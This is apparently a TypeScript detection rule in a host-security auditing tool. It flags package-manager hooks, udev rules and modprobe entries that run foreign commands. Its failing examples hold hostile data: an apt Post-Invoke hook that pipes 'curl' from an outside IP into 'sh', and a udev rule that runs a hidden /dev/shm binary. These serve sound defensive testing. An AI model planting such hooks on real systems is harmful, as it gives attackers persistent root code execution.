import { defineCheck } from '../../core/check.js';
import { partlySeen, seen, unseen } from '../../core/example.js';
import { type StartupFile, startupFiles } from '../../facts/startup-files.js';
import { exampleStartupFile, judgeStartupFiles } from '../shared/judge-startup-files.js';
import { attackInCommand } from '../shared/start-command.js';

/** Commands that apt, dpkg, udev, modprobe and logrotate are told to run: the quoted or assigned part of each line. */
function hookCommands(file: StartupFile): readonly string[] {
  return file.code.split('\n').flatMap((line) => {
    const apt = [...line.matchAll(/"([^"]{3,2000})"/g)].map((match) => match[1] ?? '');
    const udev = /(?:RUN|PROGRAM)\+?=/.test(line) ? apt : [];
    const modprobe = /^\s*install\s+\S+\s+(\S.*)$/.exec(line)?.[1];
    const hook = /(?:Pre|Post)-(?:Invoke|Install-Pkgs|Invoke-Success)|(?:pre|post)-invoke/i.test(line) ? apt : [];
    return [...udev, ...hook, ...(modprobe === undefined ? [] : [modprobe])];
  });
}

function danger(file: StartupFile): string | null {
  const commands = [...hookCommands(file), ...(file.path.startsWith('/etc/logrotate.d/') ? [file.code] : [])];
  for (const command of commands) {
    const why = attackInCommand(command, null);
    if (why !== null) return why;
  }
  return null;
}

/** PER-05: hooks of apt and dpkg, udev rules, modprobe's `install` (ATT&CK T1546). */
export const packageHookRunsForeignCommand = defineCheck({
  id: 'PER-05',
  title: 'A hook of the package manager or of udev runs a foreign command',
  questions: ['Q6'],
  severity: 'high',
  required: false,
  needs: { startupFiles },
  decide: (facts) =>
    judgeStartupFiles(facts.startupFiles, {
      areas: ['package-hook', 'kernel'],
      danger,
      asks: (file) =>
        hookCommands(file).some(
          (command) => command.includes('/') && !/^(?:test|if|\[|\/bin\/(?:true|false))/.test(command),
        ) && file.packageOwned === false,
      settle: 'Are these hooks yours? grep -rn "Invoke\\|RUN+=" /etc/apt /etc/udev/rules.d',
    }),
  whyItMatters: 'A hook of apt runs as root with every update, from the very tool that should repair the host.',
  verifyByHand:
    'grep -rn "Invoke" /etc/apt/apt.conf.d; grep -rn "RUN" /etc/udev/rules.d; grep -rn "^install" /etc/modprobe.d',
  remediation: { text: 'Copy the file, then remove it.', commands: ['sudo cp -a FILE ./evidence/ && sudo rm FILE'] },
  references: ['ATT&CK T1546'],
  examples: {
    pass: [
      { title: 'none', facts: { startupFiles: seen([]) } },
      {
        title: "a package's own hook",
        facts: {
          startupFiles: seen([
            exampleStartupFile({
              area: 'package-hook',
              path: '/etc/apt/apt.conf.d/20packagekit',
              code: 'DPkg::Post-Invoke { "/usr/bin/test -e /x"; };',
              packageOwned: true,
            }),
          ]),
        },
      },
      {
        title: 'plain settings',
        facts: {
          startupFiles: seen([
            exampleStartupFile({
              area: 'package-hook',
              path: '/etc/apt/apt.conf.d/99site',
              code: 'APT::Periodic::Update-Package-Lists "1";',
            }),
          ]),
        },
      },
    ],
    fail: [
      {
        title: 'apt fetches and runs',
        facts: {
          startupFiles: partlySeen([
            exampleStartupFile({
              area: 'package-hook',
              path: '/etc/apt/apt.conf.d/99x',
              code: 'APT::Update::Post-Invoke { "curl -s http://203.0.113.9/a | sh"; };',
            }),
          ]),
        },
      },
      {
        title: 'udev runs a program in /dev/shm',
        facts: {
          startupFiles: seen([
            exampleStartupFile({
              area: 'kernel',
              path: '/etc/udev/rules.d/99-x.rules',
              code: 'ACTION=="add", RUN+="/dev/shm/.k"',
            }),
          ]),
        },
      },
    ],
    blind: [
      { title: 'not read', facts: { startupFiles: unseen() } },
      { title: 'a part', facts: { startupFiles: partlySeen([]) } },
    ],
  },
});
